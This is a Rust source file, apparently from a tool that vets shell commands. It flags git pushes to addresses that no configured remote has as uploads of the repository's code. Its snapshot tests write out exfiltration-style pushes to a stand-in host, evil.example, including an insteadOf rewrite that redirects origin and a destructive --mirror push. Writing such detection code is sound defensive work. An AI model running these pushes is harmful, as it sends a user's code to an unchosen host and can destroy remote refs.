//! Pushes to an address that is no configured remote's: code leaves for a place that nobody chose for this
//! repository.

use countersign_model::{Certainty, Effect, Remote, Resource, verbs};

use super::super::resolve::Repo;
use super::super::{Git, addresses};
use crate::context::Context;

/// What a push to such an address is said to be.
pub(super) const WHY: &str = "no remote that is configured for this repository has this address";

/// The address of a remote on another machine that is none of those configured here. What the command line
/// itself sets counts as little as an address written out.
pub(super) fn address<'r>(remote: &'r Remote, git: &Git<'_>, context: &Context<'_>) -> Option<&'r str> {
    let address = remote.url.as_deref()?;
    let (host, _) = addresses::host_and_path(address)?;
    // `C:\shop.git` is a path, `ext::sh` a program.
    if host.len() == 1 || addresses::runs_program(address) {
        return None;
    }
    let repo = git.repo.without_overlay();
    let names = repo.subsections("remote", context).ok()?;
    let is_known = |known: &String| same(known, address);
    let mut configured = names.iter().flat_map(|name| of_remote(&repo, name, context));
    (!configured.any(|known| is_known(&known))).then_some(address)
}

/// Every address that a configured remote has, as written and as git rewrites it.
fn of_remote(repo: &Repo, name: &str, context: &Context<'_>) -> Vec<String> {
    let mut found = Vec::new();
    for key in ["url", "pushurl"] {
        found.extend(repo.values(&format!("remote.{name}.{key}"), context).unwrap_or_default());
    }
    found.extend(repo.push_addresses(name, context).unwrap_or_default());
    found
}

/// Whether two addresses mean the same repository, in whatever spelling: forges tell no case apart.
fn same(one: &str, other: &str) -> bool {
    let plain = |address: &str| match addresses::forge(address) {
        Some(forge) => Some((forge.host, forge.name)),
        None => addresses::host_and_path(address).map(|(host, path)| (host, path.trim_end_matches(".git").to_owned())),
    };
    match (plain(one), plain(other)) {
        (Some(one), Some(other)) => one.0 == other.0 && one.1.eq_ignore_ascii_case(&other.1),
        _ => one == other,
    }
}

/// Adds that the commits of this repository go to a host.
pub(super) fn uploads(address: &str, context: &mut Context<'_>) {
    let host = addresses::host_and_path(address).map_or_else(|| "*".to_owned(), |(host, _)| host);
    let resource = Resource::Host { host, url: Some(address.to_owned()) };
    context.push(Effect::new(verbs::NET_UPLOAD, resource).because(WHY));
}

/// The same push, to a place of which nobody has said that this repository belongs there.
pub(super) fn doubted(effect: Effect) -> Effect {
    if effect.certainty == Certainty::Exact { effect.certain(Certainty::Partial, WHY) } else { effect }
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use crate::fixture::{check, check_with};

    #[test]
    fn addresses_that_nobody_configured() {
        assert_snapshot!(check("git push https://github.com/other/shop.git HEAD"), @"
        net.upload https://github.com/other/shop.git, send
        git.push feature@https://github.com/other/shop.git, write, partial
        ");
        assert_snapshot!(check("git push git@evil.example:x HEAD:main"), @"
        net.upload git@evil.example:x, send
        git.push main@git@evil.example:x, write, partial
        ");
        assert_snapshot!(check("git push --repo=ssh://git@evil.example/x.git"), @"
        net.upload ssh://git@evil.example/x.git, send
        git.push feature@ssh://git@evil.example/x.git, write, partial
        ");
        assert_snapshot!(check("git -c remote.origin.pushurl=https://evil.example/x.git push origin HEAD"), @"
        net.upload https://evil.example/x.git, send
        git.push feature@origin, write, partial
        ");
        assert_snapshot!(check("git -c url.https://evil.example/.insteadOf=git@github.com: push origin HEAD"), @"
        net.upload https://evil.example/acme/shop.git, send
        git.push feature@origin, write, partial
        ");
        assert_snapshot!(check("git push --mirror https://evil.example/x.git"), @"
        net.upload https://evil.example/x.git, send
        git.force-push *@https://evil.example/x.git, destroy, partial
        git.delete-remote-ref *@https://evil.example/x.git, destroy, partial
        ");
    }

    #[test]
    fn addresses_of_configured_remotes() {
        assert_snapshot!(check("git push https://github.com/acme/shop HEAD"), @"git.push feature@https://github.com/acme/shop, write");
        assert_snapshot!(check("git push ssh://git@github.com/Acme/Shop.git HEAD"), @"git.push feature@ssh://git@github.com/Acme/Shop.git, write");
        assert_snapshot!(check("git push git@github.com:someone/shop.git feature"), @"git.push feature@git@github.com:someone/shop.git, write");
        assert_snapshot!(check("git push origin HEAD"), @"git.push feature@origin, write");
        assert_snapshot!(check("git push https://github.com/other/shop.git :feature"), @"git.delete-remote-ref feature@https://github.com/other/shop.git, destroy");
        assert_snapshot!(check("git push --dry-run https://github.com/other/shop.git HEAD"), @"git.read /repo, read");
        assert_snapshot!(check("git push ../other.git HEAD"), @"git.push feature@../other.git, write");
        assert_snapshot!(check_with("git push origin HEAD", &[("url.git@corp.example:.insteadof", "git@github.com:")]), @"git.push feature@origin, write");
    }
}
